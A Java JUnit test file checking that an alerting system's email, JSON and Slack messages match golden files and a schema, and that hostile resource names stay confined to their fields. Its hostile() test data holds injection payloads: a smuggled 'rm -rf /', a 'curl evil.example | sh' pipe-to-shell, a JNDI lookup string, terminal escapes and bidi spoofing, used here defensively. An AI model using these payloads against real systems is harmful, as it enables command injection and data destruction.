package dev.backstop.functions.message;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.backstop.core.Json;
import java.io.IOException;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the channels say of each kind of alert, as looked at, and that no value of a record gets out of its field. */
class MessageTest {
    static Stream<String> kinds() {
        return Alerts.all().keySet().stream();
    }

    static Stream<String> hostile() {
        return Stream.of(
                "sg-1\nNEXT\r\nrm -rf /",
                "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u001b[31m",
                "abc\u202egnp.exe\u2066\u2069\u200b\u200d\ufeff\u00ad",
                "<!channel> <@U012AB3CD> <https://evil.example|console> @here :siren:",
                "`*_~ code ``` block `",
                "\"}, \"severity\": \"info\", {\"x\": \"\\u0022",
                "'; curl evil.example | sh; '",
                "<$.detail> <aws.events.event> ${jndi:ldap://x}",
                "\ud83d half a pair \udc00 \ud83d\ude00",
                "\u2028\u2029\u0085\u0000\u007f\u009b31m",
                "x".repeat(5_000));
    }

    @ParameterizedTest
    @MethodSource("kinds")
    void readsAsLookedAt(String kind) throws IOException {
        Message message = Alerts.all().get(kind);
        Golden.check("email/" + kind + ".txt", message.subject() + "\n\n" + AlertText.body(message));
        Golden.check("json/" + kind + ".json", message.json().toPrettyString() + "\n");
        Golden.check("chat/" + kind + ".json", ChatNotification.of(message).toPrettyString() + "\n");
    }

    @ParameterizedTest
    @MethodSource("kinds")
    void isAsItsSchemaSays(String kind) {
        assertEquals(
                List.of(), Schemas.mistakes("alert-2", Alerts.all().get(kind).json()));
    }

    @Test
    void theSchemaIsStrictEnoughToSayNo() {
        for (String field : List.of("subject", "incident", "event", "next", "runbook")) {
            ObjectNode lacking = Alerts.message(Alerts.contained()).json();
            lacking.remove(field);
            assertFalse(Schemas.mistakes("alert-2", lacking).isEmpty(), field);
        }
        ObjectNode wrong = Alerts.message(Alerts.contained()).json();
        wrong.put("subject", "a \"quoted\" subject");
        assertFalse(Schemas.mistakes("alert-2", wrong).isEmpty());
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aHostileNameStaysInItsLineOfAnEMail(String name) {
        Message message = Alerts.message(Alerts.hostile(name));
        assertEquals(List.of(), Schemas.mistakes("alert-2", message.json()));
        assertTrue(message.subject().matches("\\[HIGH\\] [ !#-\\[\\]-~]{1,92}"), message.subject());
        assertTrue(message.subject().endsWith(": revert FAILED"), message.subject());
        String body = AlertText.body(message);
        String honest = AlertText.body(Alerts.message(Alerts.hostile("honest")));
        assertEquals(honest.lines().count(), body.lines().count(), body);
        assertFalse(
                body.codePoints().anyMatch(c -> c != '\n' && !isHarmless(c)),
                () -> "a character that acts is left: " + body);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aHostileNameStaysInItsCodeSpanOfAChat(String name) {
        ObjectNode chat = ChatNotification.of(Alerts.message(Alerts.hostile(name)));
        String description = chat.at("/content/description").asText();
        String honest = ChatNotification.of(Alerts.message(Alerts.hostile("honest")))
                .at("/content/description")
                .asText();
        assertEquals(outsideCode(honest), outsideCode(description));
        for (String text : Json.values(chat, "content.nextSteps")) {
            assertTrue(outsideCode(text).matches("[ \\n]*|Runbook: <https://[^|]*\\|what to do>"), text);
        }
        assertFalse(chat.at("/content/title").asText().contains("<"));
        for (String field : List.of("session", "incident", "event", "rule")) {
            String value = chat.at("/metadata/additionalContext/" + field).asText();
            assertTrue(value.matches("[\\w+=,.@:/-]*"), value);
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 5, 40, 64, 500})
    void whatWasDoneIsNeverCutFromASubject(int length) {
        String subject = Subject.of(Alerts.hostile("n".repeat(length)));
        assertTrue(subject.length() <= Subject.MOST && subject.endsWith(": revert FAILED"), subject);
        assertTrue(subject.startsWith("[HIGH] n"), subject);
    }

    private static boolean isHarmless(int character) {
        int type = Character.getType(character);
        return type != Character.CONTROL
                && type != Character.FORMAT
                && type != Character.SURROGATE
                && type != Character.LINE_SEPARATOR
                && type != Character.PARAGRAPH_SEPARATOR;
    }

    /** What Slack reads as its markup: all but code spans. */
    private static String outsideCode(String mrkdwn) {
        return mrkdwn.replaceAll("`[^`\\n]*`", "");
    }
}
